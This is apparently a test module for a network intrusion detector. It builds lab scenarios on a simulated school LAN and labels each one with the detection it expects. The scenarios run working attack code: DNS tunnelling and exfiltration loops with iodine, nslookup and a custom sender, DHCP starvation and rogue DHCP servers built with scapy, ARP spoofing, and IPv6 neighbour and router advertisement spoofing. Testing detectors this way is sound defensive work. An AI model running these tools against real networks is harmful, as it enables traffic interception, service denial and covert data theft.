"""Lab scenarios of DNS tunnels, DHCP and ARP/ND attacks in their less common forms.

iodine forced to other record types and encodings, iodine's raw UDP mode, slow
exfiltration with a shell loop, a tunnel under a dynamic-DNS customer's domain, a
tunnel over DNS on TCP, a client that asks every name twice; DHCP starvation by
client identifiers, by REQUESTs and behind a forged relay address, a rogue DHCP server
answering one client only and one posing as relayed; ARP spoofing between students,
both ways, by broadcast replies and by requests; IPv6 neighbour advertisements
claiming a student's address, and rogue router advertisements that announce only a
DNS server or reach one host. Registered into ``tests.lab.scenarios.SCENARIOS``.

The crafted packets (DHCP) come from this module run inside a lab namespace
(``python -m tests.lab.scenarios_dns_l2 TOOL ...``, scapy from the project's venv);
every loop is bounded by a count and a time limit.
"""

from __future__ import annotations

import argparse
import base64
import random
import signal
import sys
import time
from pathlib import Path

from tests.lab.lan import IF, TUNNEL_DOMAIN, SchoolLan
from tests.lab.scenarios import (
    ATTACKER6,
    SERVER6,
    STUDENT6,
    Outcome,
    Scenario,
    _bounded,
    _fake_router26,
    _iodine_tunnel,
    _nd_traffic,
)

ROOT = Path(__file__).resolve().parents[2]
EXFIL = "files.tunnel.test"  # answered by dnsmasq on the internet host (see _authority)


def _me(*args: str) -> tuple[str, ...]:
    """This module as a tool inside a namespace (scapy from the project's interpreter)."""
    return ("env", f"PYTHONPATH={ROOT}", sys.executable, "-m", "tests.lab.scenarios_dns_l2", *args)


class _Authority:
    """dnsmasq on the internet host answering every name under ``domains`` (the school
    resolver forwards .test, .org and the other top-level domains there)."""

    def __init__(self, lan: SchoolLan, *domains: str) -> None:
        self.lan, self.domains = lan, domains

    def __enter__(self) -> None:
        wan, lan = self.lan.wan, self.lan
        self.proc = lan.start(
            wan.ns, "dnsmasq-authority", "dnsmasq", "-k", f"--listen-address={wan.ip}",
            "--bind-interfaces", "--no-resolv", "--no-hosts", "--user=root",
            f"--pid-file={lan.work / 'dnsmasq-authority.pid'}",
            *(f"--address=/{d}/{wan.ip}" for d in self.domains),
        )  # fmt: skip
        time.sleep(0.5)

    def __exit__(self, *exc: object) -> None:
        self.lan.stop(self.proc)


# --------------------------------------------------------------------- iodine variants
def _iodine(name: str, qtype: str = "", enc: str = "", raw: bool = False, direct: bool = False):  # type: ignore[no-untyped-def]
    """iodine with -T QTYPE and/or -O ENCODING, through the school resolver or straight
    to iodined; ``raw``: without -r, so iodine tries (and, straight to the server, uses)
    its raw UDP mode after the login."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        a, wan = lan.attacker, lan.wan
        args = ["-f"] + ([] if raw else ["-r"])
        args += ["-T", qtype] if qtype else []
        args += ["-O", enc] if enc else []
        args += ["-P", "labsecret", wan.ip if direct else lan.srv.ip, TUNNEL_DOMAIN]
        pings = "30" if raw else "8"  # raw mode: a datagram each, no DNS at all
        with _iodine_tunnel(lan, "var", "172.31.79.1", args, 40) as up:
            if up:  # a little data through the tunnel
                lan.run(
                    a.ns, "busybox", "ping", "-c", pings, "-i", "0.3", "172.31.79.1", timeout=20
                )
        log = lan.log("iodine-var")
        path = (
            f"straight to iodined on the internet host ({wan.ip})"
            if direct
            else f"through the school resolver (dnsmasq forwards {TUNNEL_DOMAIN} to iodined)"
        )
        forced = " and ".join(
            x
            for x in (f"{qtype} queries" if qtype else "", f"{enc} downstream" if enc else "")
            if x
        )
        return Outcome(
            name,
            ("dns_tunnel", "dns_bypass") if direct and not raw else ("dns_tunnel",),
            "iodine " + " ".join(args),
            f"iodine with {forced or 'its autodetected type'} {path}"
            + ("; raw UDP mode allowed (no -r)" if raw else "")
            + f"; {pings} pings through the tunnel",
            a,
            "iodine",
            notes={
                "tunnel_up": up,
                "raw_mode": "raw" in log.lower() and "udp" in log.lower(),
                "iodine_log_tail": log[-300:],
            },
        )

    return run


# --------------------------------------------------------------------- exfiltration loops
def _chunks(data: bytes, size: int, codec: str) -> list[str]:
    text = base64.b32encode(data).decode().rstrip("=").lower() if codec == "base32" else data.hex()
    return [text[i : i + size] for i in range(0, len(text), size)]


def _nslookup_loop(
    lan: SchoolLan, names: list[str], pause: tuple[float, float], seconds: float, seed: int
) -> str:
    """One shell loop of busybox nslookup on the attacker, a random pause between queries."""
    rng = random.Random(seed)
    lines = [
        f"busybox nslookup -type=a {n} {lan.srv.ip} >/dev/null 2>&1; "
        f"sleep {rng.uniform(*pause):.1f}"
        for n in names
    ]
    script = "\n".join(lines) + "\n"
    path = lan.work / f"exfil-{seed}.sh"
    path.write_text(script)
    _bounded(lan, lan.attacker.ns, seconds, "sh", str(path))
    return lines[0]


def _slow_exfil(name: str, size: int, codec: str, count: int, seconds: float):  # type: ignore[no-untyped-def]
    """A shell loop sending a file as ``codec`` chunks under one domain, a query every 2-5 s."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        data = random.Random(size).randbytes(
            count * size * 5 // 8 if codec == "base32" else count * size // 2
        )
        chunks = _chunks(data, size, codec)[:count]
        names = [f"{c}.{i}.{EXFIL}" for i, c in enumerate(chunks)]
        with _Authority(lan, TUNNEL_DOMAIN):
            first = _nslookup_loop(lan, names, (2.0, 5.0), seconds, size)
        return Outcome(
            name,
            ("dns_tunnel",),
            f"sh loop: {first} ... ({len(names)} queries)",
            f"slow exfiltration: a file as {size}-character {codec} chunks under {EXFIL}, "
            "one busybox nslookup every 2-5 s through the school resolver (far below any "
            "per-minute bar)",
            lan.attacker,
            "busybox nslookup",
            fast=False,
        )

    return run


def ddns_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
    """Chunks under one customer's name of a dynamic-DNS provider (a public suffix)."""
    user = "mathsclub42.duckdns.org"
    data = random.Random(5).randbytes(1500)
    names = [f"{c}.a.{user}" for c in _chunks(data, 60, "base32")][:36]
    with _Authority(lan, "duckdns.org"):
        first = _nslookup_loop(lan, names, (0.1, 0.3), 30, 60)
    return Outcome(
        "ddns_tunnel",
        ("dns_tunnel",),
        f"sh loop: {first} ... ({len(names)} queries)",
        f"a file as 60-character base32 labels under a.{user} (duckdns.org is a public "
        "suffix: each customer is a domain of its own), through the school resolver",
        lan.attacker,
        "busybox nslookup",
    )


def _dns_sent(
    lan: SchoolLan,
    name: str,
    count: int,
    extra: list[str],
    seconds: float,
    what: str,
    **notes: object,
) -> Outcome:
    """``count`` queries of data chunks under EXFIL from this module's dns-send tool on the
    attacker (options ``extra``), through the school resolver, bounded by ``seconds``."""
    args = ["dns-send", "--server", lan.srv.ip, "--domain", EXFIL, "--count", str(count)]
    args += extra
    with _Authority(lan, TUNNEL_DOMAIN):
        out = _bounded(lan, lan.attacker.ns, seconds, *_me(*args))
    return Outcome(
        name,
        ("dns_tunnel",),
        "python -m tests.lab.scenarios_dns_l2 " + " ".join(args),
        what,
        lan.attacker,
        "python3",
        notes={**notes, "output_tail": out[-200:]},
    )


def dns_tcp_tunnel(lan: SchoolLan, small: bool = False) -> Outcome:
    """TXT queries carrying 60-character base32 chunks over DNS on TCP, several on each
    connection, through the school resolver."""
    return _dns_sent(
        lan,
        "dns_tcp_tunnel",
        60,
        ["--tcp", "--per-connection", "6", "--qtype", "16", "--pause", "0.1"],
        30,
        f"60 TXT queries of 60-character base32 chunks under {EXFIL} over DNS on TCP (six "
        "on each connection, each answered before the next), through the school resolver",
    )


def dns_retries(lan: SchoolLan, small: bool = False) -> Outcome:
    """A client asking every name twice: 120 hex names of 32 characters, 240 queries."""
    return _dns_sent(
        lan,
        "dns_retries",
        120,
        ["--size", "32", "--codec", "hex", "--repeat", "2", "--pause", "0.05"],
        40,
        f"120 different 32-character hex names under {EXFIL}, each asked twice (a retry), "
        "A queries through the school resolver: 120 different names, 240 queries",
        unique_names=120,
    )


def _dns_send(ns: argparse.Namespace) -> int:
    """Queries of data chunks, UDP or TCP, answered one by one; bounded by count and time."""
    import socket
    import struct

    rng = random.Random(ns.seed)
    names = [
        f"{c}.{i}.{ns.domain}"
        for i, c in enumerate(_chunks(rng.randbytes(ns.count * ns.size), ns.size, ns.codec))
    ][: ns.count]
    deadline = time.monotonic() + ns.seconds
    answered = 0

    def query(ident: int, name: str) -> bytes:
        q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
        return struct.pack("!6H", ident, 0x0100, 1, 0, 0, 0) + q + struct.pack("!2H", ns.qtype, 1)

    sock: socket.socket | None = None
    sent_on = 0
    for i, name in enumerate(names):
        for _ in range(ns.repeat):
            if time.monotonic() > deadline:
                break
            msg = query(rng.randrange(65536), name)
            try:
                if ns.tcp:
                    if sock is None or sent_on >= ns.per_connection:
                        if sock is not None:
                            sock.close()
                        sock = socket.create_connection((ns.server, 53), timeout=3)
                        sent_on = 0
                    sock.sendall(struct.pack("!H", len(msg)) + msg)
                    sent_on += 1
                    size = struct.unpack("!H", sock.recv(2))[0]
                    while size > 0:
                        size -= len(sock.recv(size))
                else:
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                        u.settimeout(2)
                        u.sendto(msg, (ns.server, 53))
                        u.recv(4096)
                answered += 1
            except OSError:
                sock = None
            time.sleep(ns.pause)
        del i
    if sock is not None:
        sock.close()
    print(f"{answered} answered")
    return 0


# --------------------------------------------------------------------- DHCP
def _dhcp_starvation(name: str, mode: str, what: str, expected: tuple[str, ...]):  # type: ignore[no-untyped-def]
    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        a = lan.attacker
        many = mode == "random-mac"  # no sender to tell: only the whole LAN's count
        args = ["dhcp-starve", "--mode", mode, "--count", "300" if many else "60"]
        args += ["--pause", "0.01" if many else "0.05"]
        args += ["--mac", a.mac, "--ip", a.ip]
        out = _bounded(lan, a.ns, 30, *_me(*args))
        return Outcome(
            name,
            expected,
            "python -m tests.lab.scenarios_dns_l2 " + " ".join(args),
            what,
            a,
            "scapy",
            notes={"output_tail": out[-300:]}
            | ({"no_single_source": True} if mode == "random-mac" else {}),
        )

    return run


def _dhcp_starve(ns: argparse.Namespace) -> int:
    """DHCP requests for invented clients, each in the shape ``--mode`` names."""
    from scapy.all import BOOTP, DHCP, IP, UDP, AsyncSniffer, Ether, conf, sendp

    conf.verb = 0
    rng = random.Random(ns.seed)
    deadline = time.monotonic() + ns.seconds
    sent: dict[int, object] = {}  # xid -> the DISCOVER
    taken: set[int] = set()

    def take(offer: object) -> None:
        """REQUEST the address an OFFER names: the lease is the server's to lose."""
        b = offer[BOOTP]  # type: ignore[index]
        frame = sent.get(b.xid)
        if b.op != 2 or frame is None or b.xid in taken:
            return
        taken.add(b.xid)
        req = frame.copy()  # type: ignore[attr-defined]
        cid = next(o[1] for o in req[DHCP].options if o[0] == "client_id")
        req[DHCP].options = [
            ("message-type", "request"),
            ("requested_addr", b.yiaddr),
            ("server_id", offer[IP].src),  # type: ignore[index]
            ("client_id", cid),
            "end",
        ]
        sendp(req, iface=IF)

    sniffer = None
    if ns.mode in ("client-id", "chaddr"):
        sniffer = AsyncSniffer(iface=IF, filter="udp dst port 68", prn=take, store=False)
        sniffer.start()
        time.sleep(0.5)
    for _ in range(ns.count):
        if time.monotonic() > deadline:
            break
        rand_mac = "02:" + ":".join(f"{rng.randrange(256):02x}" for _ in range(5))
        chaddr, src_mac, src_ip, giaddr, sport = rand_mac, ns.mac, "0.0.0.0", "0.0.0.0", 68
        client_id = b"\x01" + bytes.fromhex(rand_mac.replace(":", ""))
        options: list[object] = []
        if ns.mode == "client-id":  # the laptop's own MAC everywhere, a new client id each time
            chaddr = ns.mac
            client_id = b"\xff" + rng.randbytes(12)  # RFC 4361 style: IAID and DUID
        elif ns.mode == "random-mac":  # the frame's source forged too
            src_mac = rand_mac
        elif ns.mode == "giaddr":  # posing as a relay agent (from the attacker's address)
            giaddr, src_ip, sport = ns.ip, ns.ip, 67
        xid = rng.getrandbits(32)
        if ns.mode == "request":  # INIT-REBOOT: a REQUEST for an address, no DISCOVER
            want = f"10.77.0.{150 + rng.randrange(50)}"
            options = [("message-type", "request"), ("requested_addr", want)]
        else:
            options = [("message-type", "discover")]
        options += [("client_id", client_id), "end"]
        dst = "10.77.0.10" if ns.mode == "giaddr" else "255.255.255.255"
        frame = (
            Ether(src=src_mac, dst="ff:ff:ff:ff:ff:ff")
            / IP(src=src_ip, dst=dst)
            / UDP(sport=sport, dport=67)
            / BOOTP(
                chaddr=bytes.fromhex(chaddr.replace(":", "")), xid=xid, giaddr=giaddr, flags=0x8000
            )
            / DHCP(options=options)
        )
        if ns.mode == "giaddr":
            frame[Ether].dst = "02:77:00:00:00:0a"
        sendp(frame, iface=IF)
        sent[xid] = frame
        time.sleep(ns.pause)
    time.sleep(4)  # the last offers (the server pings each address first)
    if sniffer is not None:
        sniffer.stop()
    print(f"leases requested: {len(taken)} of {len(sent)}")
    return 0


def rogue_dhcp_selective(lan: SchoolLan, small: bool = False) -> Outcome:
    """dnsmasq on the attacker answering student 2 only (every other client ignored)."""
    a, victim = lan.attacker, lan.students[1]
    args = [
        "-k", "--port=0", f"--interface={IF}", "--bind-interfaces", "--no-hosts",
        "--no-resolv", "--dhcp-range=10.77.0.200,static,255.255.255.0,5m",
        f"--dhcp-host={victim.mac},10.77.0.202", f"--dhcp-option=3,{a.ip}",
        f"--dhcp-option=6,{a.ip}", "--dhcp-ignore=tag:!known", "--dhcp-authoritative",
        "--no-ping", "--user=root", f"--dhcp-leasefile={lan.work / 'sel.leases'}",
        f"--pid-file={lan.work / 'sel.pid'}",
    ]  # fmt: skip
    lan.attack_started = time.monotonic()
    rogue = lan.start(a.ns, "rogue-selective", "dnsmasq", *args)
    try:
        time.sleep(1)
        leases = [lan.dhcp(s).strip() for s in lan.students]
    finally:
        lan.stop(rogue)
    for s in lan.students:
        lan.dhcp(s)
    return Outcome(
        "rogue_dhcp_selective",
        ("rogue_dhcp",),
        "dnsmasq " + " ".join(x for x in args if "file" not in x),
        "a rogue DHCP server on the attacker (router and DNS = attacker) that answers "
        "student 2 only (dhcp-ignore for every other client); the three students rejoin "
        "with busybox udhcpc, then renew from the school server",
        a,
        "dnsmasq",
        notes={"udhcpc": leases},
    )


def rogue_dhcp_relayed(lan: SchoolLan, small: bool = False) -> Outcome:
    """A crafted server answering every DISCOVER and REQUEST as if a relay agent had
    passed it on (giaddr the gateway's address), naming itself router and DNS server."""
    a = lan.attacker
    args = ["dhcp-relayed-server", "--mac", a.mac, "--ip", a.ip, "--giaddr", lan.gw.ip]
    lan.attack_started = time.monotonic()
    rogue = lan.start(a.ns, "rogue-relayed", "timeout", "-s", "INT", "20", *_me(*args))
    try:
        time.sleep(3)
        leases = [lan.dhcp(s).strip() for s in lan.students[1:]]
    finally:
        lan.stop(rogue, signal.SIGINT)
    for s in lan.students[1:]:
        lan.dhcp(s)
    return Outcome(
        "rogue_dhcp_relayed",
        ("rogue_dhcp",),
        "python -m tests.lab.scenarios_dns_l2 " + " ".join(args),
        f"a rogue DHCP server (scapy) whose OFFERs and ACKs carry giaddr {lan.gw.ip} as if "
        "relayed, router and DNS = attacker; students 2 and 3 rejoin, then renew from the "
        "school server",
        a,
        "scapy",
        notes={"udhcpc": leases, "log_tail": lan.log("rogue-relayed")[-200:]},
    )


def _dhcp_relayed_server(ns: argparse.Namespace) -> int:
    from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf, sendp, sniff

    conf.verb = 0
    deadline = time.monotonic() + ns.seconds
    given: dict[bytes, str] = {}

    def answer(p: object) -> None:
        b = p[BOOTP]  # type: ignore[index]
        kind = next((o[1] for o in p[DHCP].options if o[0] == "message-type"), 0)  # type: ignore[index]
        if b.op != 1 or kind not in (1, 3):
            return
        yiaddr = given.setdefault(b.chaddr[:6], f"10.77.0.{210 + len(given)}")
        reply = (
            Ether(src=ns.mac, dst="ff:ff:ff:ff:ff:ff")
            / IP(src=ns.ip, dst="255.255.255.255")
            / UDP(sport=67, dport=68)
            / BOOTP(
                op=2,
                xid=b.xid,
                yiaddr=yiaddr,
                siaddr=ns.ip,
                giaddr=ns.giaddr,
                chaddr=b.chaddr,
                flags=b.flags,
            )
            / DHCP(
                options=[
                    ("message-type", "offer" if kind == 1 else "ack"),
                    ("server_id", ns.ip),
                    ("lease_time", 300),
                    ("subnet_mask", "255.255.255.0"),
                    ("router", ns.ip),
                    ("name_server", ns.ip),
                    "end",
                ]
            )
        )
        sendp(reply, iface=IF)
        print(f"{'offer' if kind == 1 else 'ack'} {yiaddr}", flush=True)

    while time.monotonic() < deadline:
        sniff(
            iface=IF,
            filter="udp dst port 67",
            prn=answer,
            timeout=max(0.1, deadline - time.monotonic()),
            store=False,
        )
    return 0


# --------------------------------------------------------------------- ARP
def _arp_between_students(name: str, tool_args: list[str], what: str, tool: str = "arpspoof"):  # type: ignore[no-untyped-def]
    """An ARP attack on student 1 about student 2 (no gateway involved) while the two
    ping each other; ``{victim}`` and ``{peer}`` in the arguments become their addresses."""

    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        a, victim, peer = lan.attacker, lan.students[0], lan.students[1]
        seconds = 14
        args = [x.format(victim=victim.ip, peer=peer.ip) for x in tool_args]
        pings = [
            lan.start(
                h.ns, f"ping-{h.name}", "busybox", "ping", "-c", str(seconds + 6), "-i", "1", o.ip
            )
            for h, o in ((victim, peer), (peer, victim))
        ]
        lan.run(a.ns, "sysctl", "-qw", "net.ipv4.ip_forward=1")
        try:
            time.sleep(1)
            out = _bounded(lan, a.ns, seconds, tool, *args)
        finally:
            lan.run(a.ns, "sysctl", "-qw", "net.ipv4.ip_forward=0")
            for p in pings:
                lan.stop(p, signal.SIGINT)
        return Outcome(
            name,
            ("arp_spoof",),
            f"timeout -s INT {seconds} {tool} " + " ".join(args) + " (ip_forward=1)",
            what + f", while student 1 ({victim.ip}) and student 2 ({peer.ip}) ping each other",
            a,
            "arpspoof (dsniff)" if tool == "arpspoof" else tool,
            notes={"output_tail": out[-300:]},
        )

    return run


arp_spoof_student = _arp_between_students(
    "arp_spoof_student",
    ["-i", IF, "-t", "{victim}", "{peer}"],
    "arpspoof tells student 1 that student 2's address is at the attacker's MAC "
    "(unicast forged replies every 2 s, the re-ARP on exit)",
)
arp_spoof_student_both = _arp_between_students(
    "arp_spoof_student_both",
    ["-i", IF, "-t", "{victim}", "-r", "{peer}"],
    "arpspoof -r between two students: each is told the other's address is at the attacker's MAC",
)
arp_spoof_broadcast = _arp_between_students(
    "arp_spoof_broadcast",
    ["-i", IF, "{peer}"],
    "arpspoof without a target: forged replies for student 2's address broadcast to "
    "the whole LAN every 2 s",
)
arp_request_poison = _arp_between_students(
    "arp_request_poison",
    ["-i", IF, "-S", "{peer}", "-c", "12", "{victim}"],
    "arping sends ARP requests for student 1 whose sender is student 2's address at the "
    "attacker's MAC (poisoning by requests, which Linux accepts into an existing entry)",
    tool="arping",
)


# --------------------------------------------------------------------- IPv6
def nd_advertise_student(lan: SchoolLan, small: bool = False) -> Outcome:
    """fake_advertise6 claims student 1's address, sent to the server only."""
    seconds, args = 15, ["-w", "1", "-n", "14", IF, STUDENT6, SERVER6]
    _nd_traffic(lan, "fake_advertise6", seconds, "atk6-fake_advertise6", *args)
    return Outcome(
        "nd_advertise_student",
        ("nd_spoof",),
        f"timeout -s INT {seconds} atk6-fake_advertise6 " + " ".join(args),
        "thc-ipv6 fake_advertise6: a neighbour advertisement a second to the server alone "
        f"(override flag) claiming student 1's {STUDENT6} for the attacker's MAC, while "
        "student 1 and the server ping each other, their neighbour caches flushed every 3 s",
        lan.attacker,
        "thc-ipv6",
        notes={"attacker_ip6": ATTACKER6},
    )


def _router_advertising(name: str, extra: list[str], what: str):  # type: ignore[no-untyped-def]
    def run(lan: SchoolLan, small: bool = False) -> Outcome:
        args = [x.format(victim_mac=lan.students[0].mac, dns=ATTACKER6) for x in extra]
        args += ["-i", "2", "-n", "5", IF]
        out, link_local = _fake_router26(lan, args, accept_ra=True)
        return Outcome(
            name,
            ("rogue_ra",),
            "atk6-fake_router26 " + " ".join(args),
            f"thc-ipv6 fake_router26: five router advertisements {what}",
            lan.attacker,
            "thc-ipv6",
            notes={"attacker_ip6": link_local, "output_tail": out[-300:]},
        )

    return run


rogue_ra_dns_only = _router_advertising(
    "rogue_ra_dns_only",
    ["-l", "0", "-D", "{dns}", "-A", "fd77:bad::/64"],
    "with router lifetime 0 (not a default router) but a prefix and the attacker as "
    "DNS server (RDNSS): hosts keep their router and take the attacker's resolver",
)
rogue_ra_unicast = _router_advertising(
    "rogue_ra_unicast",
    ["-m", "{victim_mac}", "-A", "fd77:bad::/64", "-p", "high", "-l", "9000"],
    "sent to student 1's MAC alone (-m), high preference, router lifetime 9000 s",
)


SCENARIOS = {
    s.name: s
    for s in [
        Scenario("iodine_cname", ("iodine", "iodined"), _iodine("iodine_cname", "CNAME")),
        Scenario("iodine_mx", ("iodine", "iodined"), _iodine("iodine_mx", "MX")),
        Scenario("iodine_srv", ("iodine", "iodined"), _iodine("iodine_srv", "SRV")),
        Scenario("iodine_a", ("iodine", "iodined"), _iodine("iodine_a", "A")),
        Scenario("iodine_private", ("iodine", "iodined"), _iodine("iodine_private", "PRIVATE")),
        Scenario(
            "iodine_txt_base32",
            ("iodine", "iodined"),
            _iodine("iodine_txt_base32", "TXT", "Base32"),
        ),
        Scenario(
            "iodine_txt_base64",
            ("iodine", "iodined"),
            _iodine("iodine_txt_base64", "TXT", "Base64"),
        ),
        Scenario("iodine_txt_raw", ("iodine", "iodined"), _iodine("iodine_txt_raw", "TXT", "Raw")),
        Scenario(
            "iodine_a_direct", ("iodine", "iodined"), _iodine("iodine_a_direct", "A", direct=True)
        ),
        Scenario(
            "iodine_cname_direct",
            ("iodine", "iodined"),
            _iodine("iodine_cname_direct", "CNAME", direct=True),
        ),
        Scenario("iodine_raw_udp", ("iodine", "iodined"), _iodine("iodine_raw_udp", raw=True)),
        Scenario(
            "iodine_raw_udp_direct",
            ("iodine", "iodined"),
            _iodine("iodine_raw_udp_direct", raw=True, direct=True),
        ),
        Scenario(
            "slow_exfil_base32",
            ("busybox", "dnsmasq"),
            _slow_exfil("slow_exfil_base32", 60, "base32", 30, 130),
        ),
        Scenario(
            "slow_exfil_hex",
            ("busybox", "dnsmasq"),
            _slow_exfil("slow_exfil_hex", 32, "hex", 120, 420),
        ),
        Scenario("ddns_tunnel", ("busybox", "dnsmasq"), ddns_tunnel),
        Scenario("dns_tcp_tunnel", ("dnsmasq",), dns_tcp_tunnel),
        Scenario("dns_retries", ("dnsmasq",), dns_retries),
        Scenario(
            "dhcp_clientid_starvation",
            (),
            _dhcp_starvation(
                "dhcp_clientid_starvation",
                "client-id",
                "DHCP starvation by client identifier: 60 DISCOVERs, each answered OFFER "
                "REQUESTed, all from the attacker's own MAC (Ethernet source and chaddr) "
                "with a new client identifier (option 61) each",
                ("dhcp_starvation",),
            ),
        ),
        Scenario(
            "dhcp_request_starvation",
            (),
            _dhcp_starvation(
                "dhcp_request_starvation",
                "request",
                "DHCP starvation by REQUESTs alone (INIT-REBOOT: a requested address, no "
                "DISCOVER): 60 invented client MACs from the attacker's Ethernet address",
                ("dhcp_starvation",),
            ),
        ),
        Scenario(
            "dhcp_giaddr_starvation",
            (),
            _dhcp_starvation(
                "dhcp_giaddr_starvation",
                "giaddr",
                "DHCP starvation posing as a relay agent: 60 DISCOVERs for invented client "
                "MACs with giaddr set to the attacker's address, sent to the server",
                ("dhcp_starvation",),
            ),
        ),
        Scenario(
            "dhcp_random_mac_starvation",
            (),
            _dhcp_starvation(
                "dhcp_random_mac_starvation",
                "random-mac",
                "DHCP starvation with the Ethernet source forged as well: 300 DISCOVERs, "
                "each from the invented client MAC it asks for",
                ("dhcp_starvation",),
            ),
        ),
        Scenario("rogue_dhcp_selective", ("dnsmasq", "busybox"), rogue_dhcp_selective),
        Scenario("rogue_dhcp_relayed", ("busybox",), rogue_dhcp_relayed),
        Scenario("arp_spoof_student", ("arpspoof", "busybox"), arp_spoof_student),
        Scenario("arp_spoof_student_both", ("arpspoof", "busybox"), arp_spoof_student_both),
        Scenario("arp_spoof_broadcast", ("arpspoof", "busybox"), arp_spoof_broadcast),
        Scenario("arp_request_poison", ("arping", "busybox"), arp_request_poison),
        Scenario("nd_advertise_student", ("atk6-fake_advertise6",), nd_advertise_student),
        Scenario("rogue_ra_dns_only", ("atk6-fake_router26",), rogue_ra_dns_only),
        Scenario("rogue_ra_unicast", ("atk6-fake_router26",), rogue_ra_unicast),
    ]
}


def main(argv: list[str] | None = None) -> int:
    """The crafted-packet tools, run inside a lab namespace."""
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="tool", required=True)
    d = sub.add_parser("dns-send")
    d.add_argument("--server", required=True)
    d.add_argument("--domain", required=True)
    d.add_argument("--count", type=int, default=60)
    d.add_argument("--size", type=int, default=60)
    d.add_argument("--codec", choices=("base32", "hex"), default="base32")
    d.add_argument("--qtype", type=int, default=1)
    d.add_argument("--repeat", type=int, default=1)
    d.add_argument("--tcp", action="store_true")
    d.add_argument("--per-connection", type=int, default=1)
    d.add_argument("--pause", type=float, default=0.1)
    d.add_argument("--seconds", type=float, default=60)
    d.add_argument("--seed", type=int, default=7)
    s = sub.add_parser("dhcp-starve")
    s.add_argument("--mode", choices=("client-id", "chaddr", "request", "giaddr", "random-mac"))
    s.add_argument("--mac", required=True)
    s.add_argument("--ip", required=True)
    s.add_argument("--count", type=int, default=60)
    s.add_argument("--pause", type=float, default=0.05)
    s.add_argument("--seconds", type=float, default=25)
    s.add_argument("--seed", type=int, default=11)
    r = sub.add_parser("dhcp-relayed-server")
    r.add_argument("--mac", required=True)
    r.add_argument("--ip", required=True)
    r.add_argument("--giaddr", required=True)
    r.add_argument("--seconds", type=float, default=25)
    ns = ap.parse_args(argv)
    tools = {"dns-send": _dns_send, "dhcp-starve": _dhcp_starve}
    tools["dhcp-relayed-server"] = _dhcp_relayed_server
    return tools[ns.tool](ns)


if __name__ == "__main__":
    sys.exit(main())
